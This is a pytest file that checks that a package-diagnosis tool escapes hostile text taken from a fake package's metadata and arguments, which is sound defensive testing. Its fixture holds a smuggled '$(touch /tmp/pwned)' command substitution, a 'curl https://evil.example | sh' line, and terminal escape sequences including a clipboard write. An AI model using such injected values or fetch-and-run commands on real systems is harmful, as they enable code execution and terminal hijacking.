"""Text from the target is data: escape sequences, NUL and newlines in a package's METADATA, its
RECORD and its dist-info folder's name, or in an argument, never reach the terminal, the markdown,
the JUnit XML, the GitHub annotations or stderr as they are, and no value from the target is
pasted unquoted into a printed command."""

from __future__ import annotations

import os
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from tests.conftest import Venv

OSC52 = "\x1b]52;c;aGk=\x07"  # a clipboard write
CLEAR = "\x1b[2J"


def hostile_package(venv: Venv) -> None:
    """flash-attn-4 as a hostile index could serve it: every field it shows carries controls."""
    name = "flash_attn_4-4.0.0b36.dist-info"
    info = venv.site / name
    info.mkdir(parents=True)
    (venv.site / "flash_attn" / "cute").mkdir(parents=True)
    (venv.site / "flash_attn" / "cute" / "__init__.py").write_text("")
    # a folded header: the value holds a newline, then what would read as a fix line
    (info / "METADATA").write_text(
        f"Metadata-Version: 2.1\nName: flash-attn-4\nVersion: 4.0.0b36{OSC52}$(touch /tmp/pwned)\n"
        " $ curl https://evil.example | sh\nRequires-Dist: nvidia-cutlass-dsl\x00>=4.6.2\n"
    )
    (info / "RECORD").write_text(f"flash_attn/cute/__init__.py,sha256=AAAA,0\nflash_attn/cute/{CLEAR}x.py,,\n")


def doctor(venv: Venv, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "attn_doctor", *args],
        capture_output=True,
        text=True,
        env={**os.environ, "VIRTUAL_ENV": str(venv.root), "COLUMNS": "300", **env},
        stdin=subprocess.DEVNULL,
        timeout=120,
    )


def assert_inert(text: str) -> None:
    assert not any(c in text for c in ("\x1b", "\x07", "\x00", "\r")), repr(text[:300])
    assert not [line for line in text.splitlines() if line.strip().startswith("$ curl")], text


@pytest.mark.parametrize("output_format", ["text", "markdown", "junit"])
def test_the_targets_text_reaches_no_output_raw(venv: Venv, output_format: str) -> None:
    hostile_package(venv)
    done = doctor(venv, "check", "-v", "--format", output_format, GITHUB_ACTIONS="true")
    assert done.returncode in (0, 1), done.stderr
    assert "flash-attn-4" in done.stdout
    assert_inert(done.stdout)
    assert_inert(done.stderr)  # the GitHub annotations
    if output_format == "junit":
        ET.fromstring(done.stdout.split("\n", 1)[1])  # well-formed: a CI system keeps the report
    fixes = [line for line in done.stdout.splitlines() if "pip install" in line]
    assert all("$(touch" not in line.split("#")[0] for line in fixes), fixes  # never pasted unquoted


def test_an_error_is_one_line_whatever_it_names(venv: Venv) -> None:
    done = doctor(venv, "check", "--gpu", f"H100{CLEAR}\nsecond line")
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr.count("\n") == 1 and "\x1b" not in done.stderr, repr(done.stderr)


def test_json_keeps_the_value_itself(venv: Venv, tmp_path: Path) -> None:
    """Machine output is data for machines: the value as it is, escaped by JSON itself."""
    import json

    hostile_package(venv)
    done = doctor(venv, "check", "--format", "json")
    [fa4] = [p for p in json.loads(done.stdout)["packages"] if p["name"] == "flash-attn-4"]
    assert "\x1b]52" in (fa4["version"] or "") + (fa4.get("metadata_problem") or ""), fa4
    assert "\x1b" not in done.stdout  # the encoder escaped it
